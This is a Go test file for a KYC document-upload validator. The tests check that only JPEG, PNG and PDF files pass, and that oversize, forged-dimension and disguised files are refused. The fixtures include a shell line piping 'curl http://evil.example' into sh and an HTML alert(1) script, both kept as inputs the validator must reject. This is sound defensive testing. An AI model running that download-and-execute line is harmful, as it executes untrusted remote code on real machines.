package kyc_test

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gatehouse/gatehouse/modules/kyc"
	"github.com/gatehouse/gatehouse/ports"
)

func encoded(t *testing.T, enc func(*bytes.Buffer, image.Image) error, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	img.Set(0, 0, color.RGBA{R: 200, A: 255})
	var b bytes.Buffer
	require.NoError(t, enc(&b, img))
	return b.Bytes()
}

func pngOf(t *testing.T, w, h int) []byte {
	return encoded(t, func(b *bytes.Buffer, i image.Image) error { return png.Encode(b, i) }, w, h)
}

// pngClaiming is a real PNG whose header (with a correct CRC) claims w × h.
func pngClaiming(t *testing.T, w, h uint32) []byte {
	data := pngOf(t, 1, 1)
	// 8-byte signature, 4-byte length, "IHDR", then width and height.
	binary.BigEndian.PutUint32(data[16:], w)
	binary.BigEndian.PutUint32(data[20:], h)
	binary.BigEndian.PutUint32(data[29:], crc32.ChecksumIEEE(data[12:29]))
	return data
}

func TestInspectFileAccepts(t *testing.T) {
	lim := kyc.DefaultFileLimits()
	jpg := encoded(t, func(b *bytes.Buffer, i image.Image) error { return jpeg.Encode(b, i, nil) }, 640, 480)
	pdf := []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
	for name, c := range map[string]struct {
		data []byte
		want kyc.FileInfo
	}{
		"png":  {pngOf(t, 300, 200), kyc.FileInfo{ContentType: "image/png", Width: 300, Height: 200}},
		"jpeg": {jpg, kyc.FileInfo{ContentType: "image/jpeg", Width: 640, Height: 480}},
		"pdf":  {pdf, kyc.FileInfo{ContentType: "application/pdf"}},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := kyc.InspectFile("front", c.data, lim)
			require.NoError(t, err)
			require.Equal(t, c.want, got)
		})
	}
}

func TestInspectFileRefuses(t *testing.T) {
	lim := kyc.DefaultFileLimits()
	small := lim
	small.MaxBytes = 64
	gifData := encoded(t, func(b *bytes.Buffer, i image.Image) error { return gif.Encode(b, i, nil) }, 10, 10)
	for name, c := range map[string]struct {
		data    []byte
		lim     kyc.FileLimits
		problem string
	}{
		"zero bytes":              {nil, lim, "is empty"},
		"oversize":                {pngOf(t, 200, 200), small, "is larger than 64 bytes"},
		"script renamed .jpg":     {[]byte("#!/bin/sh\ncurl http://evil.example | sh\n"), lim, "must be a JPEG, PNG or PDF file"},
		"html":                    {[]byte("<html><script>alert(1)</script></html>"), lim, "must be a JPEG, PNG or PDF file"},
		"gif":                     {gifData, lim, "must be a JPEG, PNG or PDF file"},
		"png claiming 100k×100k":  {pngClaiming(t, 100_000, 100_000), lim, "is 100000 × 100000 pixels; at most 10000 a side and 40 megapixels are accepted"},
		"png within sides, 49 MP": {pngClaiming(t, 7_000, 7_000), lim, "is 7000 × 7000 pixels; at most 10000 a side and 40 megapixels are accepted"},
		"jpeg magic, no image":    {[]byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F', 0, 1, 2, 3}, lim, "is not a readable image"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := kyc.InspectFile("front", c.data, c.lim)
			var pe *ports.Error
			require.ErrorAs(t, err, &pe)
			require.Equal(t, ports.CodeValidationFailed, pe.Code)
			require.Equal(t, map[string]string{"front": c.problem}, pe.Fields)
		})
	}
}

// countingSeeker counts the bytes read from a ReadSeeker.
type countingSeeker struct {
	r *bytes.Reader
	n int64
}

func (c *countingSeeker) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

func (c *countingSeeker) Seek(off int64, whence int) (int64, error) { return c.r.Seek(off, whence) }

// InspectReader reads only the head of a file, however large, and decides
// as InspectFile does.
func TestInspectReaderReadsOnlyTheHead(t *testing.T) {
	lim := kyc.DefaultFileLimits()
	jpg := encoded(t, func(b *bytes.Buffer, i image.Image) error { return jpeg.Encode(b, i, nil) }, 640, 480)
	big := append(bytes.Clone(jpg), make([]byte, 9<<20)...)
	for name, c := range map[string]struct {
		data []byte
		want kyc.FileInfo
		bad  string
	}{
		"9 MiB jpeg":    {data: big, want: kyc.FileInfo{ContentType: "image/jpeg", Width: 640, Height: 480}},
		"png":           {data: pngOf(t, 30, 20), want: kyc.FileInfo{ContentType: "image/png", Width: 30, Height: 20}},
		"png too large": {data: pngClaiming(t, 100_000, 100_000), bad: "pixels"},
		"not an image":  {data: append([]byte("#!/bin/sh\n"), make([]byte, 1<<20)...), bad: "JPEG, PNG or PDF"},
		"empty":         {data: nil, bad: "empty"},
	} {
		r := &countingSeeker{r: bytes.NewReader(c.data)}
		got, err := kyc.InspectReader("front", r, int64(len(c.data)), lim)
		if c.bad != "" {
			var pe *ports.Error
			require.ErrorAs(t, err, &pe, name)
			require.Contains(t, pe.Fields["front"], c.bad, name)
			continue
		}
		require.NoError(t, err, name)
		require.Equal(t, c.want, got, name)
		require.Less(t, r.n, int64(64<<10), "%s: read %d bytes", name, r.n)
	}
}
